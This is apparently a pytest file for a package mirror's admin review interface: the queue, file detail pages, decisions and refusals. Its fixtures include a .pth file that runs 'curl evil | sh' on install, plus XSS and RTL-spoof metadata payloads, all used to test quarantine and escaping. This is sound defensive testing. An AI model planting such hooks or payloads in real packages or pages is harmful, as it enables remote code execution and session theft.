"""The review pages in-process: the queue, a file's detail page with hostile metadata,
and decisions (single, whole release, bulk) with their refusals. Files get into the
mirror the real way: a fake upstream on loopback and a real sync."""

from __future__ import annotations

import html
import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest

from mirror.db import Role, State
from mirror.projects import Projects
from mirror.publish import Publisher
from tests.support.admin import AdminSite, csrf
from tests.support.builders import make_wheel

OLD = datetime(2025, 1, 1, tzinfo=UTC)
PTH = {"hooky/__init__.py": b"", "hooky.pth": b"import os; os.system('curl evil | sh')\n"}
MEGABYTE = "A" * 1_000_000
HOSTILE = (
    "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
    'Summary: <script>alert("x")</script> "><img src=x onerror=alert(1)>\n'
    "Home-page: javascript:alert(document.cookie)\n"
    "Project-URL: Docs, javascript:alert(2)\n"
    "Author: Mallory \u202egnp.exe\u202c\n"
    f"Keywords: {MEGABYTE}\n\n"
    "<script>alert('description')</script>\n"
)


def synced(site, index):
    site.sync_from(index.url)
    site.user("rev", Role.REVIEWER)
    site.user("boss", Role.ADMIN)
    return site


@pytest.fixture
def site(tmp_path, fake_index):
    index = fake_index("json")
    build = tmp_path / "build"
    build.mkdir()
    index.add(make_wheel(build, "hooky", "1.0", files=PTH), upload_time=OLD)
    index.add(make_wheel(build, "hooky", "1.0", files=PTH, tag="py2.py3-none-any"), upload_time=OLD)
    index.add(make_wheel(build, "clean", "1.0"), upload_time=OLD)
    index.add(make_wheel(build, "evil", "1.0", metadata=HOSTILE), upload_time=OLD)
    site = AdminSite(
        tmp_path,
        upstream={"url": index.url},
        sync={"projects": ["hooky", "clean", "evil"], "python_versions": ["3.11"],
              "platforms": ["linux-x86_64"]},
        policy={"cooldown": "0"},
    )  # fmt: skip
    return synced(site, index)


def file_id(site, filename):
    return site.db.file_by_filename(filename).id


# ---------------------------------------------------------------- forms as a browser sees them


class Forms(HTMLParser):
    """Every form of a page: its action, and the fields a browser would send without the
    user touching them (hidden inputs, checked boxes, selected options)."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.forms: list[dict] = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self.forms.append({"action": a.get("action"), "method": a.get("method"), "fields": []})
        elif tag == "input" and self.forms and a.get("name"):
            kind = a.get("type", "text")
            if kind == "hidden" or (kind == "checkbox" and "checked" in a):
                self.forms[-1]["fields"].append((a["name"], a.get("value", "")))

    def fields(self, action: str | None = None, url: str | None = None) -> list[tuple[str, str]]:
        """The fields of the form posting to ``url``, or the one whose hidden ``action`` is
        ``action``."""
        for form in self.forms:
            if url is not None and form["action"] == url:
                return list(form["fields"])
            if action is not None and ("action", action) in form["fields"]:
                return list(form["fields"])
        raise AssertionError(f"no form for action={action} url={url}")


def form_of(client, page_url, action=None, url=None):
    return Forms(client.get(page_url).text).fields(action=action, url=url)


def post(client, url, fields, **more):
    """POST fields (a list of pairs, as a browser sends them) plus ``more``."""
    from werkzeug.datastructures import MultiDict

    data = MultiDict(fields)
    for name, value in more.items():
        if isinstance(value, list):
            data.setlist(name, value)
        else:
            data[name] = value
    return client.post(url, data=data)


def test_queue_lists_held_files_with_why_and_counts(site):
    client = site.logged_in("rev")
    page = client.get("/admin/").text
    assert "hooky-1.0-py3-none-any.whl" in page and "hooky-1.0-py2.py3-none-any.whl" in page
    assert "clean-1.0" not in page  # approved by policy: not in the held queue
    assert '<span class="sev high">high</span>' in page
    assert "findings, new project" in page
    counts = re.findall(r"<strong>(\d+)</strong>(\w+)", page)
    assert ("1", "approved") in counts and ("3", "held") in counts
    approved = client.get("/admin/?state=approved").text
    assert "clean-1.0-py3-none-any.whl" in approved


def test_queue_filters_by_project_severity_check_and_search(site):
    client = site.logged_in("rev")
    assert "evil-1.0" not in client.get("/admin/?project=hooky").text
    by_check = client.get("/admin/?check=pth-import").text
    assert "hooky-1.0" in by_check and "evil-1.0" not in by_check
    assert "hooky" not in client.get("/admin/?q=evil").text.split("<tbody>")[1]
    assert client.get("/admin/?severity=bogus").status_code == 400


def test_hostile_metadata_renders_inert_and_readable(site):
    client = site.logged_in("rev")
    response = client.get(f"/admin/files/{file_id(site, 'evil-1.0-py3-none-any.whl')}")
    html = response.text
    assert response.status_code == 200
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html  # readable, escaped
    assert 'href="javascript:' not in html.lower() and "javascript:alert(document.cookie)" in html
    assert "\u202e" not in html
    assert '<span class="esc" title="hidden character">\\u202e</span>' in html
    assert len(html) < 400_000  # a megabyte field is cut, not embedded
    assert "show all 1,000,000 characters" in html
    raw = client.get(f"/admin/files/{file_id(site, 'evil-1.0-py3-none-any.whl')}/metadata")
    assert raw.content_type == "text/plain; charset=utf-8"
    assert raw.headers["X-Content-Type-Options"] == "nosniff"
    assert MEGABYTE in raw.text


def test_detail_page_shows_findings_members_and_fields(site):
    client = site.logged_in("rev")
    html = client.get(f"/admin/files/{file_id(site, 'hooky-1.0-py3-none-any.whl')}").text
    assert "pth-import" in html and "hooky.pth" in html
    assert "hooky/__init__.py" in html and "sha256=" in html  # the member list, RECORD hashes
    assert "Metadata-Version" in html and "No earlier release" in html


def decide(client, fid, action, reason="looked at it", fields=None):
    """Fill in and send a decision form of the file's page, as loaded now (or ``fields``
    read from the page earlier)."""
    fields = fields or form_of(client, f"/admin/files/{fid}", action=action)
    return post(client, f"/admin/files/{fid}/decide", fields, reason=reason)


def test_reject_and_approve_take_effect_on_the_index_at_once(site):
    client = site.logged_in("rev")
    evil = file_id(site, "evil-1.0-py3-none-any.whl")
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    assert decide(client, evil, "reject", "homoglyph author, script in summary").status_code == 303
    assert decide(client, hooky, "approve", "pth is the project's own").status_code == 303
    assert site.db.file_by_id(evil).state is State.REJECTED
    assert site.db.file_by_id(hooky).state is State.APPROVED
    index = site.client()
    assert "hooky-1.0-py3-none-any.whl" in index.get("/simple/hooky/").text
    assert index.get("/simple/evil/").status_code == 404
    last = site.db.decisions(hooky)[-1]
    assert (last["actor"], last["reason"]) == ("user:rev", "pth is the project's own")
    # Then revoke: gone from the index at once.
    assert decide(client, hooky, "revoke", "advisory").status_code == 303
    assert "hooky-1.0-py3-none-any.whl" not in index.get("/simple/hooky/").text


def test_a_decision_without_a_reason_changes_nothing(site):
    client = site.logged_in("rev")
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    before = len(site.db.decisions())
    assert decide(client, hooky, "approve", "   ").status_code == 400
    assert site.db.file_by_id(hooky).state is State.QUARANTINED
    assert len(site.db.decisions()) == before


def test_refusals_change_nothing(site):
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    before = len(site.db.decisions())
    anonymous = site.client()
    url = f"/admin/files/{hooky}/decide"
    assert anonymous.post(url, data={"action": "approve"}).status_code == 403
    rev = site.logged_in("rev")
    no_token = rev.post(f"/admin/files/{hooky}/decide", data={"action": "approve", "reason": "x"})
    assert no_token.status_code == 403
    forged = rev.post(
        f"/admin/files/{hooky}/decide",
        data={"action": "approve", "reason": "x", "csrf_token": "forged"},
    )
    assert forged.status_code == 403
    token = csrf(rev)
    site.accounts.set_disabled("rev", True, actor="test")
    disabled = rev.post(url, data={"action": "approve", "reason": "x", "csrf_token": token})
    assert disabled.status_code == 401 and "session has ended" in disabled.text
    boss = site.logged_in("boss")
    token = csrf(boss)
    site.clock.advance(hours=13)
    expired = boss.post(url, data={"action": "approve", "reason": "x", "csrf_token": token})
    assert expired.status_code == 401
    assert site.db.file_by_id(hooky).state is State.QUARANTINED
    assert len(site.db.decisions()) == before


def bulk(client, fields, ids, action, reason="bulk"):
    return post(client, "/admin/bulk", fields, file_id=[str(i) for i in ids], action=action,
                reason=reason)  # fmt: skip


def test_bulk_decisions_report_each_file(site):
    client = site.logged_in("rev")
    ids = [file_id(site, "hooky-1.0-py3-none-any.whl"), file_id(site, "evil-1.0-py3-none-any.whl")]
    fields = form_of(client, "/admin/", url="/admin/bulk")
    response = bulk(client, fields, ids, "reject")
    assert response.status_code == 303 and response.headers["Location"] == "/admin/"
    page = client.get(response.headers["Location"]).text
    assert "Rejected hooky-1.0-py3-none-any.whl." in page
    assert "Rejected evil-1.0-py3-none-any.whl." in page
    assert all(site.db.file_by_id(i).state is State.REJECTED for i in ids)


def test_a_decision_on_a_file_that_moved_since_the_page_was_loaded_is_refused(site):
    alice, bob = site.logged_in("rev"), site.logged_in("boss")
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    seen_by_alice = form_of(alice, f"/admin/files/{hooky}", action="approve")
    assert ("seen_state", "quarantined") in seen_by_alice
    assert decide(bob, hooky, "reject", "pth downloads a script").status_code == 303
    before = len(site.db.decisions())

    typed = "fine by me <script>alert(1)</script>"
    late = decide(alice, hooky, "approve", typed, fields=seen_by_alice)
    assert late.status_code == 409
    assert "hooky-1.0-py3-none-any.whl is rejected now, not held" in late.text
    assert "Nothing was changed." in late.text
    # The reason typed is shown back (escaped), though its form is no longer offered.
    assert html.escape(typed, quote=False) in late.text and "<script>alert(1)" not in late.text
    assert site.db.file_by_id(hooky).state is State.REJECTED
    assert len(site.db.decisions()) == before
    # The page shown again is the file as it is now: overturning is offered, not approving.
    assert Forms(late.text).fields(action="overturn")
    assert 'value="approve"' not in late.text


def test_approving_a_held_file_never_overturns_a_decision(site):
    client = site.logged_in("rev")
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    fields = form_of(client, f"/admin/files/{hooky}", action="approve")
    Publisher(site.db, site.storage, site.clock).reject(
        [site.db.file_by_id(hooky)], actor="advisory:MAL-1", reason="MAL-1"
    )
    # Even a form that claims to have seen it rejected: "approve" means "if still held".
    forged = [(k, "rejected" if k == "seen_state" else v) for k, v in fields]
    refused = decide(client, hooky, "approve", "ok", fields=forged)
    assert refused.status_code == 409 and "cannot approve" in refused.text
    assert site.db.file_by_id(hooky).state is State.REJECTED


def test_overturning_is_its_own_form_with_a_reason(site):
    client = site.logged_in("rev")
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    assert decide(client, hooky, "reject", "pth").status_code == 303
    page = client.get(f"/admin/files/{hooky}").text
    assert "Overturn: approve anyway" in page and "by user:rev: pth" in page
    assert decide(client, hooky, "overturn", "   ").status_code == 400
    assert site.db.file_by_id(hooky).state is State.REJECTED
    done = decide(client, hooky, "overturn", "false positive: the .pth is the project's own")
    assert done.status_code == 303
    assert site.db.file_by_id(hooky).state is State.APPROVED
    last = site.db.decisions(hooky)[-1]
    assert (last["from_state"], last["to_state"]) == ("rejected", "approved")
    assert "hooky-1.0-py3-none-any.whl" in site.client().get("/simple/hooky/").text


def test_an_advisory_revoking_meanwhile_stops_an_overturn_or_revoke(site):
    client = site.logged_in("rev")
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    assert decide(client, hooky, "approve", "ok").status_code == 303
    revoke_form = form_of(client, f"/admin/files/{hooky}", action="revoke")
    publisher = Publisher(site.db, site.storage, site.clock)
    publisher.revoke([site.db.file_by_id(hooky)], actor="advisory:MAL-2", reason="MAL-2")
    late = decide(client, hooky, "revoke", "I saw it first", fields=revoke_form)
    assert late.status_code == 409 and "is revoked now, not approved" in late.text
    assert [d["actor"] for d in site.db.decisions(hooky)][-1] == "advisory:MAL-2"


def test_bad_input_shows_the_form_again_with_the_reason_kept(site):
    client = site.logged_in("rev")
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    before = len(site.db.decisions())
    blank = decide(client, hooky, "reject", " \t ")
    assert blank.status_code == 400 and "A decision needs a reason." in blank.text
    assert 'id="reject-reason"' in blank.text  # the form is there to try again
    long = "</textarea><b>x</b>" + "y" * 2000
    too_long = decide(client, hooky, "reject", long)
    assert too_long.status_code == 400 and "at most 2000 characters" in too_long.text
    assert "&lt;/textarea&gt;&lt;b&gt;x&lt;/b&gt;yyy" in too_long.text
    assert "</textarea><b>" not in too_long.text
    fields = form_of(client, f"/admin/files/{hooky}", action="reject")
    no_seen = [(k, v) for k, v in fields if k != "seen_state"]
    assert decide(client, hooky, "reject", "x", fields=no_seen).status_code == 400
    bad_action = [(k, "explode" if k == "action" else v) for k, v in fields]
    assert decide(client, hooky, "x", "x", fields=bad_action).status_code == 400
    assert site.db.file_by_id(hooky).state is State.QUARANTINED
    assert len(site.db.decisions()) == before


def test_bulk_refusals_change_nothing(site):
    client = site.logged_in("rev")
    hooky = file_id(site, "hooky-1.0-py3-none-any.whl")
    evil = file_id(site, "evil-1.0-py3-none-any.whl")
    fields = form_of(client, "/admin/?per_page=2", url="/admin/bulk")
    assert ("per_page", "2") in fields  # the page asked for comes back after the decision
    before = len(site.db.decisions())

    none = bulk(client, fields, [], "reject", "typed <i>reason</i>")
    assert none.status_code == 400 and "Select at least one file." in none.text
    assert 'value="typed &lt;i&gt;reason&lt;/i&gt;"' in none.text
    blank = bulk(client, fields, [hooky], "approve", "  ")
    assert blank.status_code == 400 and "needs a reason" in blank.text
    assert f'value="{hooky}" aria-label' in blank.text and "checked" in blank.text
    assert bulk(client, fields, list(range(1, 502)), "reject").status_code == 400
    assert bulk(client, fields, [hooky], "revoke").status_code == 400
    assert post(client, "/admin/bulk", fields, file_id=["1x"], action="reject",
                reason="x").status_code == 400  # fmt: skip

    # One of two moved since the page was loaded: neither is decided.
    fields = form_of(client, "/admin/", url="/admin/bulk")
    Publisher(site.db, site.storage, site.clock).reject(
        [site.db.file_by_id(evil)], actor="user:boss", reason="first"
    )
    before = len(site.db.decisions())
    stale = bulk(client, fields, [hooky, evil], "approve")
    assert stale.status_code == 409
    assert "evil-1.0-py3-none-any.whl is rejected now, not held" in stale.text
    assert site.db.file_by_id(hooky).state is State.QUARANTINED
    # Seen as rejected (state=rejected page) is still not approvable in bulk.
    rejected = form_of(client, "/admin/?state=rejected", url="/admin/bulk")
    overturn = bulk(client, rejected, [evil], "approve")
    assert overturn.status_code == 409 and "open a file to overturn" in overturn.text
    assert site.db.file_by_id(evil).state is State.REJECTED
    assert len(site.db.decisions()) == before


def test_queue_pages_are_bounded_and_stable(site):
    client = site.logged_in("rev")
    for bad in ("0", "201", "x", "-1", "9" * 30):
        assert client.get(f"/admin/?per_page={bad}").status_code == 400, bad
    assert client.get("/admin/?page=" + "9" * 30).status_code == 400
    everything = [r.file.filename for r in site.db.queue(limit=100)]
    assert len(everything) == 3
    walked, url = [], "/admin/?per_page=1"
    while url:
        page = client.get(html.unescape(url)).text
        walked += re.findall(r'<a href="/admin/files/\d+">([^<]+)</a>', page)
        more = re.search(r'<a href="([^"]+)">older →</a>', page)
        url = more and more.group(1)
        assert url is None or "per_page=1" in url
    assert walked == everything  # oldest first, each once
    assert client.get("/admin/?per_page=200").status_code == 200


def test_queue_rows_show_their_check_ids_and_filter_by_them(site):
    client = site.logged_in("rev")
    page = client.get("/admin/").text
    rows = {
        name: cells for name, cells in re.findall(r">(\S+\.whl)</a></td>(.*?)</tr>", page, re.S)
    }
    assert (
        'href="/admin/?check=pth-import&amp;state=quarantined"'
        in rows["hooky-1.0-py3-none-any.whl"]
    )
    assert "pth-import" not in rows["evil-1.0-py3-none-any.whl"]
    assert '<option value="pth-import" >pth-import</option>' in page
    filtered = client.get("/admin/?check=pth-import").text
    assert '<option value="pth-import" selected>' in filtered


@pytest.fixture
def release_site(tmp_path, fake_index):
    """A release held by the cooldown: two clean wheels and one with a finding."""
    index = fake_index("json")
    build = tmp_path / "build"
    build.mkdir()
    recent = datetime(2026, 6, 1, tzinfo=UTC) - timedelta(days=1)
    index.add(make_wheel(build, "duo", "1.0"), upload_time=recent)
    index.add(make_wheel(build, "duo", "1.0", tag="py2.py3-none-any"), upload_time=recent)
    index.add(make_wheel(build, "duo", "1.0", files=PTH, tag="cp311-cp311-linux_x86_64"),
              upload_time=recent)  # fmt: skip
    site = AdminSite(
        tmp_path,
        upstream={"url": index.url},
        sync={"projects": ["duo"], "python_versions": ["3.11"], "platforms": ["linux-x86_64"]},
        policy={"cooldown": "7d"},
    )  # fmt: skip
    return synced(site, index)


def test_approve_the_clean_files_of_a_release_by_file_id(release_site):
    site = release_site
    client = site.logged_in("rev")
    clean = ["duo-1.0-py3-none-any.whl", "duo-1.0-py2.py3-none-any.whl"]
    dirty = "duo-1.0-cp311-cp311-linux_x86_64.whl"
    assert all(site.db.file_by_filename(f).state is State.QUARANTINED for f in [*clean, dirty])
    page_url = f"/admin/files/{file_id(site, dirty)}"
    url = f"/admin/files/{file_id(site, dirty)}/approve-clean-release"
    fields = form_of(client, page_url, url=url)
    assert sorted(v for k, v in fields if k == "seen_clean") == sorted(
        str(file_id(site, f)) for f in clean
    )
    assert "no finding the policy holds for" in client.get(page_url).text
    blank = post(client, url, fields, reason="")
    assert blank.status_code == 400 and 'id="release-reason"' in blank.text
    done = post(client, url, fields, reason="release vetted")
    assert done.status_code == 303
    assert all(site.db.file_by_filename(f).state is State.APPROVED for f in clean)
    assert site.db.file_by_filename(dirty).state is State.QUARANTINED
    # The old form, which took any project string, is gone.
    old = client.post("/admin/releases/duo/1.0/approve-clean",
                      data={"reason": "x", "csrf_token": csrf(client)})  # fmt: skip
    assert old.status_code == 404


def test_clean_means_clean_under_the_admins_project_override(release_site):
    """An allow list set on the Projects page counts here as it does in sync."""
    site = release_site
    dirty = "duo-1.0-cp311-cp311-linux_x86_64.whl"
    ids = {f["check_id"] for f in site.db.findings(file_id(site, dirty))}
    Projects(site.settings, site.db, site.clock).set_override(
        "duo", allow=" ".join(sorted(ids)), cooldown="", actor="user:boss"
    )
    client = site.logged_in("rev")
    url = f"/admin/files/{file_id(site, dirty)}/approve-clean-release"
    fields = form_of(client, f"/admin/files/{file_id(site, dirty)}", url=url)
    assert str(file_id(site, dirty)) in [v for k, v in fields if k == "seen_clean"]
    assert post(client, url, fields, reason="allowed for duo").status_code == 303
    assert site.db.file_by_filename(dirty).state is State.APPROVED


def test_a_release_that_changed_since_the_page_was_loaded_is_refused(release_site):
    site = release_site
    client = site.logged_in("rev")
    one = file_id(site, "duo-1.0-py3-none-any.whl")
    url = f"/admin/files/{one}/approve-clean-release"
    fields = form_of(client, f"/admin/files/{one}", url=url)
    other = site.db.file_by_filename("duo-1.0-py2.py3-none-any.whl")
    Publisher(site.db, site.storage, site.clock).reject([other], actor="user:boss", reason="no")
    before = len(site.db.decisions())
    refused = post(client, url, fields, reason="typed <u>this</u>")
    assert refused.status_code == 409 and "changed since the page was loaded" in refused.text
    assert 'value="typed &lt;u&gt;this&lt;/u&gt;"' in refused.text
    assert site.db.file_by_id(one).state is State.QUARANTINED
    assert len(site.db.decisions()) == before
    forged = [(k, v) for k, v in fields if k != "seen_clean"]
    assert post(client, url, forged, reason="x").status_code == 409
    Publisher(site.db, site.storage, site.clock).reject(
        [site.db.file_by_id(one)], actor="user:boss", reason="no"
    )
    nothing = post(client, url, fields, reason="x")
    assert nothing.status_code == 409 and "No held file of this release is clean." in nothing.text
